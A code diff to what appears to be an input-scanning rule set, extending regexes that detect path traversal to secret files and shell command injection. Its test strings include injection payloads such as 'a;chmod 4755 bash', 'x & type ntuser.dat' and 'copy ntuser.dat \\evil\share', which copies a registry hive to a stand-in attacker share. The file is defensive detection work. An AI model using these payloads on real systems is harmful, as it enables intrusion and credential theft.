@@ -104,6 +104,13 @@ TRAVERSAL_SENSITIVE_FILE = Rule(
     counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
 )
 
+# A command that prints, copies or sends a file, with its options: the file named after it is read.
+_READS_FILE = (
+    r"\b(?:cat|tac|type|more|less|head|tail|strings|xxd|od|base64|cp|copy|xcopy|scp|rsync|nc"
+    r"|curl|wget|get-content|gc|reg|esentutl)(?:\s+[-/]\S+)*\s+"
+)
+
+
 TRAVERSAL_SECRET_FILE = Rule(
     id="traversal.secret_file",
     code=TRAVERSAL,
@@ -116,7 +123,8 @@ TRAVERSAL_SECRET_FILE = Rule(
         r"|(?i)\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w]|\.[^p])|(?i)/\.ssh/authorized_keys\b"
         # Named in a sentence (`my .htpasswd file got deleted`), the file is talked about; as a
         # value, quoted, or at the end of a path or a parameter, it is asked for.
-        r"|(?i)(?:^\s*|[\\/='\"])\.htpasswd\b|(?i)\bwp-config\.php\b"
+        # A command reading or copying it (`cat .htpasswd`, `type ntuser.dat`) asks for it too.
+        r"|(?i)(?:^\s*|[\\/='\"]|" + _READS_FILE + r")\.htpasswd\b|(?i)\bwp-config\.php\b"
         r"|(?i)/\.(?:bash|zsh|mysql)_history\b"
         r"|(?i)/\.git/config\b|(?i)/\.env(?:$|[^\w.])|(?i)\bweb-inf[\\/]+web\.xml\b"
         r"|(?i)system32[\\/]+drivers[\\/]+etc[\\/]+hosts\b"
@@ -124,7 +132,8 @@ TRAVERSAL_SECRET_FILE = Rule(
         r"|(?i)[\\/]\.(?:(?:[a-z]+_)?history|netrc|pgpass|npmrc|pypirc|git-credentials)(?:$|[^\w.])"
         r"|(?i)[\\/]\.(?:kube|docker)[\\/]+config\b|(?i)[\\/]\.gnupg[\\/]"
         # A user's registry hive, and a path through a host's administrative share (`\\h\c$\`).
-        r"|(?i)(?:^\s*|[\\/='\"])ntuser\.dat\b|(?i)^\s*\\\\[^\\\s]+\\(?:[a-z]|admin)\$(?:\\|$)"
+        r"|(?i)(?:^\s*|[\\/='\"]|" + _READS_FILE + r")ntuser\.dat\b"
+        r"|(?i)^\s*\\\\[^\\\s]+\\(?:[a-z]|admin)\$(?:\\|$)"
     ),
     severity=_S,
     score=0.75,
@@ -145,6 +154,9 @@ TRAVERSAL_SECRET_FILE = Rule(
         "NTUSER.DAT",
         "/var/www/.htpasswd",
         "file=.htpasswd",
+        "x & type ntuser.dat",
+        "cat .htpasswd",
+        "copy ntuser.dat \\\\evil\\share",
     ),
     counterexamples=(
         "how do I reset my passwd",
@@ -156,6 +168,7 @@ TRAVERSAL_SECRET_FILE = Rule(
         "price is $5\\c$ later",
         "my NTUSER.DAT file is corrupted",
         "my .htpasswd file got deleted, how do I recreate it?",
+        "the cat knocked my NTUSER.DAT backup off the desk",
     ),
 )
 
@@ -370,8 +383,10 @@ CMDI_SHELL_SYNTAX = Rule(
         r"\$\{?IFS\}?|\w\$\{[a-z_]*\}|\$\{[a-z_]*\}\w|(?:^|[^\w.*/-])\{[a-z]+,[-/$~][^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
         r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
         r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
-        # A mode change of a file path (`chmod +x x.sh`, `chmod 777 /tmp/a`), not a question about
-        # one ("what does chmod 755 mean").
+        # A mode change of a file path (`chmod +x x.sh`, `chmod 777 /tmp/a`), or of anything where
+        # chmod is the command (first, or after a separator: `;chmod 4755 bash`); not a question
+        # about a mode ("what does chmod 755 mean").
+        r"|(?i)(?:^|[;&|`\n]|\$\()\s*chmod\s+(?:-\w+\s+)*[+0-7]\S*\s+\S"
         r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+(?:-\w+\s+)*[+0-7]\S*\s+(?:[~/$.*]"
         r"|[^\s/.*]*[/.*])|wget\s+https?://|curl\s+"
         # An empty choice in a brace list (`{,ls}`, `{id,}`), not a regex count (`{2,}`, `{,3}`).
@@ -390,7 +405,10 @@ CMDI_SHELL_SYNTAX = Rule(
         # time, which a batch file cuts into a file name (`%date:~10,4%`); and a line piped into
         # the shell that runs it (`echo id|$0`), not a Markdown table's cell (`| $0 |`).
         r"|(?i)%" + _NOT_DATE_OR_TIME + r":~-?\d+(?:,-?\d+)?%"
-        r"|\|\s*\$\{?0\}?(?:\s*$|\s*[;&)`]|\s+-|\|)"
+        # One character of the date or the time is a separator picked out as a space
+        # (`ping%date:~3,1%127.0.0.1` on an en-US system), not part of a file name.
+        r"|(?i)%(?:date|time):~-?\d+,1%"
+        r"|\|\s*\$\{?0\}?(?:\s*$|\s*[;&)`<>]|\s+-|\s*\d?>|\|)"
     ),
     severity=_S,
     score=0.7,
@@ -416,8 +434,12 @@ CMDI_SHELL_SYNTAX = Rule(
         "echo whoami|$0",
         "ping%DATEX:~0,1%127.0.0.1",
         "echo id |$0|cat",
+        "ping%date:~3,1%127.0.0.1",
+        "echo id|$0 2>&1",
         '{"cmd": "chmod +x /tmp/run.sh"}',
         "x; chmod 777 *",
+        "chmod +x payload",
+        "a;chmod 4755 bash",
     ),
     counterexamples=(
         "reports/*/summary.pdf",
